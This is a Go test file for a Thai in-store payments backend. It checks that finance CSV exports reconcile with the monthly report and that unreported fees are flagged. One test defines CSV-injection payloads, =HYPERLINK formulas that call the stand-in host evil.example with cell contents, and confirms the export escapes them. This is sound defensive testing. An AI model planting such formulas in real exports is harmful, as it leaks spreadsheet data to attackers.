package handlers

import (
	"context"
	"encoding/json"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"instore/db"
	"instore/i18n"
	"instore/money"
	"instore/omise"
	"instore/omise/omisehttp"
	"instore/omise/sim"
	"instore/payments"
)

// monthReport is GET /reports/daily?month= as JSON, as finance reads it.
func monthReport(t *testing.T, env *financeEnv, user, month string) dailyReportJSON {
	t.Helper()
	rec := env.do(http.MethodGet, "/reports/daily?month="+month, user, nil, "Accept", "application/json")
	expectStatus(t, rec, http.StatusOK)
	var rep dailyReportJSON
	if err := json.Unmarshal(rec.Body.Bytes(), &rep); err != nil {
		t.Fatal(err)
	}
	return rep
}

// csvRows downloads a CSV as user and returns its rows by column name.
func csvRows(t *testing.T, env *financeEnv, user, path string) []map[string]string {
	t.Helper()
	rec := env.do(http.MethodGet, path, user, nil)
	expectStatus(t, rec, http.StatusOK)
	return byName(readCSV(t, rec.Body.Bytes()))
}

func satangCell(t *testing.T, row map[string]string, col string) int64 {
	t.Helper()
	n, err := strconv.ParseInt(row[col], 10, 64)
	if err != nil {
		t.Fatalf("%s = %q in %v", col, row[col], row)
	}
	return n
}

func bahtCell(t *testing.T, row map[string]string, col string) int64 {
	t.Helper()
	n, err := money.ParseBaht(row[col])
	if err != nil {
		t.Fatalf("%s = %q in %v", col, row[col], row)
	}
	return n
}

// A month with a failed, an expired, a pending, a partly and a fully
// refunded charge (and a February charge refunded in March): the CSVs a
// clerk sums in a spreadsheet agree with the report.
func TestBooksCSVsAgreeWithReport(t *testing.T) {
	env := newFinanceEnv(t, bkk("2025-02-27", 9, 0, 0))
	ctx := context.Background()
	feb := env.sale(bkk("2025-02-27", 10, 0, 0), "store_1234", "POS-01", 12000, omise.StatusSuccessful)
	plain := env.sale(bkk("2025-03-01", 10, 0, 0), "store_1234", "POS-01", 10000, omise.StatusSuccessful)
	failed := env.sale(bkk("2025-03-02", 9, 0, 0), "store_1234", "POS-01", 1000200, omise.StatusFailed)
	pending := env.sale(bkk("2025-03-02", 10, 0, 0), "store_1234", "POS-02", 4000, omise.StatusPending)
	expired := env.sale(bkk("2025-03-02", 11, 0, 0), "store_1234", "POS-02", 77700, omise.StatusPending)
	if _, err := env.client.ExpireCharge(ctx, expired); err != nil {
		t.Fatal(err)
	}
	if _, err := env.svc.SyncCharge(ctx, expired); err != nil {
		t.Fatal(err)
	}
	partial := env.sale(bkk("2025-03-03", 9, 0, 0), "store_1234", "POS-01", 25050, omise.StatusSuccessful)
	full := env.sale(bkk("2025-03-03", 10, 0, 0), "store_1234", "POS-02", 8000, omise.StatusSuccessful)
	env.sale(bkk("2025-03-03", 11, 0, 0), "store_9", "T9", 50000, omise.StatusSuccessful)
	env.refund(bkk("2025-03-04", 9, 0, 0), partial, 5000)
	env.refund(bkk("2025-03-04", 10, 0, 0), full, 3000)
	env.refund(bkk("2025-03-05", 10, 0, 0), full, 5000)
	env.refund(bkk("2025-03-06", 10, 0, 0), feb, 2000)
	env.clock.Set(bkk("2025-03-20", 9, 0, 0))

	rep := monthReport(t, env, "finance", "2025-03")
	// plain 10000, partial 25050, full 8000 at 3.65% + 7% VAT on the fee.
	if rep.Totals.Gross != 43050 || rep.Totals.Refunds != 15000 || rep.Totals.NetAfterRefunds != rep.Totals.Net-15000 {
		t.Fatalf("report totals %+v", rep.Totals)
	}

	rows := csvRows(t, env, "finance", "/charges.csv?from=2025-03-01&to=2025-03-31")
	if len(rows) != 6 {
		t.Fatalf("%d charge rows: %v", len(rows), rows)
	}
	var net, netBaht int64
	byID := map[string]map[string]string{}
	for _, r := range rows {
		byID[r["charge_id"]] = r
		if r["status"] != "successful" {
			for _, col := range []string{"fee", "fee_vat", "net", "fee_satang", "fee_vat_satang", "net_satang", "fee_reported"} {
				if r[col] != "" {
					t.Errorf("%s charge %s has %s %q: no money moved", r["status"], r["charge_id"], col, r[col])
				}
			}
			continue
		}
		net += satangCell(t, r, "net_satang")
		netBaht += bahtCell(t, r, "net")
		if r["fee_reported"] != "yes" {
			t.Errorf("fee_reported %q", r["fee_reported"])
		}
	}
	if net != rep.Totals.Net || netBaht != rep.Totals.Net {
		t.Fatalf("SUM(net) over successful charges %d (baht column %d), report's net %d", net, netBaht, rep.Totals.Net)
	}
	for id, want := range map[string]string{plain: "successful", failed: "failed", pending: "pending", expired: "expired",
		partial: "partially_refunded", full: "refunded"} {
		if byID[id]["state"] != want {
			t.Errorf("%s state %q, want %q", id, byID[id]["state"], want)
		}
	}
	if byID[failed]["amount"] != "10002.00" {
		t.Errorf("failed row amount %q", byID[failed]["amount"])
	}

	refunds := csvRows(t, env, "finance", "/refunds.csv?month=2025-03")
	if len(refunds) != 4 {
		t.Fatalf("%d refund rows: %v", len(refunds), refunds)
	}
	var sum, sumBaht int64
	for _, r := range refunds {
		sum += satangCell(t, r, "amount_satang")
		sumBaht += bahtCell(t, r, "amount")
		if r["store_id"] != "store_1234" || r["business_day"] < "2025-03-01" || r["currency"] != "THB" {
			t.Errorf("refund row %v", r)
		}
	}
	if sum != rep.Totals.Refunds || sumBaht != rep.Totals.Refunds {
		t.Fatalf("SUM(refunds.csv) %d (baht %d), report's refunds %d", sum, sumBaht, rep.Totals.Refunds)
	}
	if last := refunds[3]; last["charge_id"] != feb || last["charge_business_day"] != "2025-02-27" || last["business_day"] != "2025-03-06" {
		t.Errorf("February charge refunded in March: %v", last)
	}
	// The admin's file of every store has store_9's sale too; a day range works like the month.
	if all := csvRows(t, env, "admin", "/refunds.csv?from=2025-03-04&to=2025-03-04"); len(all) != 2 {
		t.Errorf("admin day range: %v", all)
	}
	rec := env.do(http.MethodGet, "/refunds.csv?month=2025-3", "finance", nil)
	expectStatus(t, rec, http.StatusUnprocessableEntity)
	rec = env.do(http.MethodGet, "/refunds.csv?month=2025-03&store=store_9", "finance", nil)
	expectStatus(t, rec, http.StatusUnprocessableEntity)
}

const (
	evilName    = `=HYPERLINK("http://evil.example/?x="&A2,"Click")`
	evilCashier = `=HYPERLINK("http://evil.example/","Open")`
)

// A formula-like store name, cashier (imported from Omise's metadata) and
// refund note come out as text in every CSV; signed amounts stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	env := newFinanceEnv(t, bkk("2025-03-01", 9, 0, 0))
	ctx := context.Background()
	if _, err := env.db.UpdateStore(ctx, db.Actor{Username: "test"}, db.Store{StoreID: "store_1234", StoreName: evilName,
		Methods: []string{omise.SourceBarcodeAlipay}}); err != nil {
		t.Fatal(err)
	}
	env.clock.Set(bkk("2025-03-01", 10, 0, 0))
	oc, err := env.client.CreateCharge(ctx, omise.CreateChargeParams{Amount: 3000, Currency: "THB",
		Metadata: map[string]string{payments.MetaCashier: evilCashier},
		InlineSource: &omise.CreateSourceParams{Type: omise.SourceBarcodeAlipay, Barcode: "2810000000000000123",
			StoreID: "store_1234", TerminalID: "POS-01"}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := env.sim.MarkPaid(oc.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := env.svc.SyncCharge(ctx, oc.ID); err != nil {
		t.Fatal(err)
	}
	env.clock.Set(bkk("2025-03-01", 11, 0, 0))
	if _, err := env.svc.Refund(ctx, payments.Actor{Username: "@mgr", Role: "manager"}, payments.RefundRequest{ChargeID: oc.ID,
		Amount: 2900, Reason: payments.ReasonOther, Note: "+SUM(1,2)", IdempotencyKey: "key-formula-1"}); err != nil {
		t.Fatal(err)
	}

	ch := csvRows(t, env, "finance", "/charges.csv?from=2025-03-01&to=2025-03-01")
	if len(ch) != 1 || ch[0]["store_name"] != "'"+evilName || ch[0]["cashier"] != "'"+evilCashier {
		t.Fatalf("charges.csv %v", ch)
	}
	daily := csvRows(t, env, "finance", "/reports/daily.csv?month=2025-03")
	if len(daily) != 1 || daily[0]["store_name"] != "'"+evilName {
		t.Fatalf("daily.csv %v", daily)
	}
	// Net after a refund larger than the net is negative: a number, not text.
	if d := daily[0]; !strings.HasPrefix(d["net_after_refunds"], "-") || !strings.HasPrefix(d["net_after_refunds_satang"], "-") {
		t.Fatalf("net_after_refunds %q / %q", d["net_after_refunds"], d["net_after_refunds_satang"])
	}
	rf := csvRows(t, env, "finance", "/refunds.csv?month=2025-03")
	if len(rf) != 1 || rf[0]["store_name"] != "'"+evilName || rf[0]["note"] != "'+SUM(1,2)" || rf[0]["created_by"] != "'@mgr" ||
		rf[0]["amount_satang"] != "2900" {
		t.Fatalf("refunds.csv %v", rf)
	}
}

func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "Some Store": "Some Store", "ร้านกาแฟ": "ร้านกาแฟ", "=1+2": "'=1+2", "+66 81": "'+66 81", "-2": "'-2",
		"@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx", "a=b": "a=b", "'=x": "'=x",
	} {
		if got := csvText(in); got != want {
			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
		}
	}
}

// Against a server answering in the recorded 2017-11-02 shape (no fee,
// fee_vat or net), a sale is stored with its fee unknown: the report says
// "fee not reported", counts it, and leaves it out of net (never a net of
// 0 for it). A re-read in 2019-05-29 brings the fee and clears the gap.
func TestFeeNotReportedInRecorded2017Shape(t *testing.T) {
	env := newFinanceEnvWith(t, bkk("2025-03-01", 9, 0, 0), sim.Options{Recorded2017: true}, omise.Version2017)
	ctx := context.Background()
	unknown := env.sale(bkk("2025-03-01", 10, 0, 0), "store_1234", "POS-01", 10000, omise.StatusSuccessful)
	c, err := env.db.GetCharge(ctx, unknown)
	if err != nil || !c.FeeUnknown || c.Fee != 0 || c.Net != 0 {
		t.Fatalf("stored %+v %v", c, err)
	}
	// A client in 2019-05-29 (the default) reads another sale with its fee.
	known := env.sale(bkk("2025-03-02", 10, 0, 0), "store_1234", "POS-01", 20000, omise.StatusSuccessful)
	svc19 := env.svc19()
	if _, err := svc19.SyncCharge(ctx, known); err != nil {
		t.Fatal(err)
	}
	env.clock.Set(bkk("2025-03-03", 9, 0, 0))

	rep := monthReport(t, env, "finance", "2025-03")
	// 20000 at 3.65%: fee 730, VAT 51, net 19219.
	if rep.Totals.Gross != 30000 || rep.Totals.Net != 19219 || rep.Totals.Fee != 730 || rep.Totals.FeeUnknownCount != 1 ||
		rep.Totals.FeeUnknownGross != 10000 {
		t.Fatalf("totals %+v", rep.Totals)
	}

	rec := env.do(http.MethodGet, "/reports/daily?month=2025-03", "finance", nil)
	expectStatus(t, rec, http.StatusOK)
	doc := parseHTML(t, rec.Body.String())
	note := doc.Find("[data-testid=fee-unknown]")
	if note.Length() != 1 || !strings.Contains(note.Text(), "ไม่ได้รับแจ้งค่าธรรมเนียม") || note.AttrOr("data-count", "") != "1" {
		t.Fatalf("no fee-not-reported notice: %q", note.Text())
	}
	day1 := doc.Find("[data-testid=daily-row][data-day=\"2025-03-01\"]")
	// Columns: date, store, terminal, 4 counts, gross, fee, VAT, net, refunds, net after refunds.
	for _, i := range []int{8, 9, 10, 12} {
		if txt := day1.Find("td").Eq(i).Text(); !strings.Contains(txt, "ไม่ได้รับแจ้งค่าธรรมเนียม") || strings.Contains(txt, "฿") {
			t.Fatalf("day of the unknown fee, column %d shows %q (row %q)", i, txt, day1.Text())
		}
	}
	if net := strings.TrimSpace(doc.Find("[data-testid=daily-totals] [data-col=net]").Text()); !strings.HasPrefix(net, "฿192.19") {
		t.Fatalf("total net %q", net)
	}
	if got := i18n.TLang(i18n.EN, "books.fee_not_reported"); got != "fee not reported" {
		t.Fatalf("English text %q", got)
	}

	rows := csvRows(t, env, "finance", "/charges.csv?from=2025-03-01&to=2025-03-31")
	for _, r := range rows {
		if r["charge_id"] == unknown && (r["fee_reported"] != "no" || r["net"] != "" || r["net_satang"] != "") {
			t.Errorf("unknown-fee row %v", r)
		}
	}
	daily := csvRows(t, env, "finance", "/reports/daily.csv?month=2025-03")
	if daily[0]["net"] != "" || daily[0]["net_after_refunds"] != "" || daily[0]["fee_unknown_count"] != "1" ||
		daily[0]["fee_unknown_gross_satang"] != "10000" || daily[1]["net_satang"] != "19219" {
		t.Errorf("daily.csv %v", daily[0])
	}
	rec = env.do(http.MethodGet, "/reports/z?day=2025-03-01", "finance", nil)
	if parseHTML(t, rec.Body.String()).Find("[data-testid=z-fee-unknown]").Length() == 0 {
		t.Error("Z-report does not count the charge without a fee")
	}

	// Re-reading in 2019-05-29 brings the fee: the gap closes.
	if _, err := svc19.SyncCharge(ctx, unknown); err != nil {
		t.Fatal(err)
	}
	rep = monthReport(t, env, "finance", "2025-03")
	if rep.Totals.FeeUnknownCount != 0 || rep.Totals.Net != 19219+9609 {
		t.Fatalf("after re-sync %+v", rep.Totals)
	}
	// And a later answer without a fee does not undo it.
	if _, err := env.svc.SyncCharge(ctx, unknown); err != nil {
		t.Fatal(err)
	}
	if c, _ := env.db.GetCharge(ctx, unknown); c.FeeUnknown || c.Net != 9609 {
		t.Fatalf("a 2017 answer forgot the fee: %+v", c)
	}
}

// svc19 is the payments service reading the same simulator in 2019-05-29.
func (env *financeEnv) svc19() *payments.Service {
	env.t.Helper()
	cl, err := omisehttp.New(omisehttp.Config{BaseURL: env.simURL, PublicKey: sim.DefaultPublicKey, SecretKey: sim.DefaultSecretKey,
		Version: omise.Version2019, Timeout: 5 * time.Second})
	if err != nil {
		env.t.Fatal(err)
	}
	return &payments.Service{DB: env.db, Omise: cl, Now: env.clock.Now, TillTimeout: 90 * time.Second, BarcodeKey: []byte("k")}
}
